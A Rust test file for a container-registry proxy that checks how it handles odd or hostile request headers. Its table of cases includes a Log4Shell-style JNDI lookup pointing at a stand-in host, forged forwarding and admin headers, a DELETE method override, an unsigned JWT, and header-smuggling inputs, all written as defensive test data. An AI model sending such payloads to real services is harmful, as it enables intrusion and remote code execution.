//! Request headers: rows 130 to 154.
//!
//! Most of what a client can say of itself means nothing here. It must not be an error either, nor
//! reach the upstream.

use std::fmt::Write as _;

use crate::support::client::answers_in;
use crate::support::{Image, Proxy, ScriptedRegistry};

const REPOSITORY: &str = "owner/app";

/// The outcomes that are allowed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Expect {
    /// Served, as if it were not there.
    Served,
    /// One answer of 400 or 431, or none, and the end of the connection.
    Refused,
}

use Expect::{Refused, Served};

/// Fields as they are written, with the end of each line.
fn fields() -> Vec<(u16, String, Expect)> {
    let line = |row, text: &str, expect| (row, format!("{text}\r\n"), expect);
    let accepts = "application/vnd.oci.image.manifest.v1+json, ".repeat(1000);
    let many = |count: usize| {
        (0..count).fold(String::new(), |mut lines, n| {
            write!(lines, "X-{n}: y\r\n").unwrap();
            lines
        })
    };
    vec![
        line(130, &format!("Accept: {accepts}*/*"), Served),
        line(130, &format!("Accept: {}", accepts.repeat(3)), Refused),
        line(131, "Accept: */*;q=0", Served),
        line(132, "X-No: accept", Served),
        line(133, "Accept: text/html", Served),
        line(133, "Accept: \u{fc}, ;;;,,=, \"", Served),
        line(134, "Accept-Encoding: gzip,br;q=1, identity;q=0", Served),
        (135, many(90), Served),
        (135, many(101), Refused),
        (135, many(10_000), Refused),
        line(136, &format!("X-Long: {}", "y".repeat(1 << 20)), Refused),
        line(137, "Bad Name: x", Refused),
        line(137, "Bad(Name: x", Refused),
        line(137, "Bad\0Name: x", Refused),
        line(137, ": x", Refused),
        line(138, "X-Folded: a\r\n b", Refused),
        line(139, "X-Bare: a\rb", Refused),
        // A lone LF may be taken for an end of line (RFC 9112, 2.2), and is.
        (139, "X-Lf: a\n".to_owned(), Served),
        // Clients do not log in here; the header is not read and not passed on.
        line(141, "Authorization: Basic", Served),
        line(141, "Authorization: Basic !!!", Served),
        line(141, "Authorization: Basic Og==", Served),
        line(141, "Authorization: Basic AAAA", Served),
        line(141, &format!("Authorization: Basic {}", "A".repeat(1 << 20)), Refused),
        line(142, "Authorization: Basic YTpi\r\nAuthorization: Basic YzpkCg==", Served),
        line(143, "authorization: bEaReR x", Served),
        line(144, "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.", Served),
        line(145, "X-Forwarded-For: 1.2.3.4\r\nX-Forwarded-Host: evil\r\nX-User: admin", Served),
        line(145, "Forwarded: for=1.2.3.4;host=evil;proto=https", Served),
        line(146, "X-HTTP-Method-Override: DELETE", Served),
        line(147, "Expect: 100-continue", Served),
        // A server may answer 417, and may as well not care (RFC 9110, 10.1.1).
        line(147, "Expect: x", Served),
        line(148, "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==", Served),
        line(
            148,
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
            Served,
        ),
        line(149, "Connection: close, Authorization, Host, Accept", Served),
        line(150, "TE: trailers", Served),
        line(151, "User-Agent: \u{1b}[31m", Refused),
        line(151, "User-Agent: ${jndi:ldap://evil.example/x}", Served),
        line(151, &format!("User-Agent: {}", "u".repeat(8 << 10)), Served),
        line(153, "Cookie: session=s3cr3t", Served),
        line(154, "If-Match: *", Served),
        line(154, "If-Match: \"other\"", Served),
        line(92, "If-Modified-Since: garbage", Served),
        line(92, "If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT", Served),
        line(92, "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", Served),
        line(95, "Range: bytes=0-0", Served),
        line(0, "Content-Type: text/plain", Served),
        line(0, "Via: 1.1 squid", Served),
    ]
}

/// All that upstreams hear of a client is what it wants.
const TOLD: [&str; 5] = ["accept", "accept-encoding", "host", "user-agent", "via"];

#[tokio::test(start_paused = true)]
async fn odd_request_headers_cause_no_500_and_are_not_sent_upstream() {
    let image = Image::random(1, &[]);
    for (row, fields, expect) in fields() {
        let case = format!("row {row}, {fields:.100?}");
        let hub = ScriptedRegistry::new();
        hub.put_image(REPOSITORY, "latest", &image);
        let proxy = Proxy::before(&hub).await;

        for _ in ["cold", "warm"] {
            let path = format!("/v2/{REPOSITORY}/manifests/latest");
            let mut client = proxy.client.raw();
            let request = format!("GET {path} HTTP/1.1\r\nHost: a\r\n{fields}\r\n");
            client.send(request.as_bytes()).await;
            let (bytes, is_closed) = client.read_all().await;

            let answers = answers_in(&bytes);
            match expect {
                Served => {
                    let last = answers.last();
                    assert_eq!(last, Some(&200), "{case}: {answers:?}");
                    let interim = &answers[..answers.len() - 1];
                    assert!(interim.iter().all(|status| *status == 100), "{case}: {answers:?}");
                    assert!(bytes.ends_with(&image.manifest.blob.bytes), "{case}: other bytes");
                    let text = String::from_utf8_lossy(&bytes).to_lowercase();
                    assert!(text.contains(&image.manifest.media_type), "{case}: another type");
                    assert!(!text.contains("content-encoding"), "{case}");
                }
                Refused => {
                    assert!(answers.len() <= 1 && is_closed, "{case}: {answers:?}");
                    let is_refusal = |status: &u16| matches!(status, 400 | 431);
                    assert!(answers.iter().all(is_refusal), "{case}: {answers:?}");
                }
            }
        }
        for asked in hub.asked() {
            let strange: Vec<_> =
                asked.headers.iter().filter(|(name, _)| !TOLD.contains(&&**name)).collect();
            assert!(strange.is_empty(), "{case}: {strange:?}");
            assert!(asked.header("user-agent").unwrap().starts_with("larder/"), "{case}");
        }
        assert_eq!(hub.asked().is_empty(), expect == Refused, "{case}");
    }
}

/// Row 150: trailers are no headers.
#[tokio::test(start_paused = true)]
async fn trailers_are_ignored() {
    let hub = ScriptedRegistry::new();
    let image = Image::random(1, &[]);
    hub.put_image(REPOSITORY, "latest", &image);
    let proxy = Proxy::before(&hub).await;
    for trailer in ["Content-Length: 5", "Authorization: Basic YTpi", "Host: b", "X: y"] {
        let mut client = proxy.client.raw();
        let request = format!(
            "GET /v2/{REPOSITORY}/manifests/latest HTTP/1.1\r\nHost: a\r\nTE: trailers\r\n\
             Transfer-Encoding: chunked\r\nTrailer: x\r\n\r\n1\r\na\r\n0\r\n{trailer}\r\n\r\n"
        );
        client.send(request.as_bytes()).await;
        let (bytes, _) = client.read_all().await;

        assert_eq!(answers_in(&bytes), [200], "{trailer}");
    }
    assert!(hub.asked().iter().all(|asked| !asked.has_credential()));
}
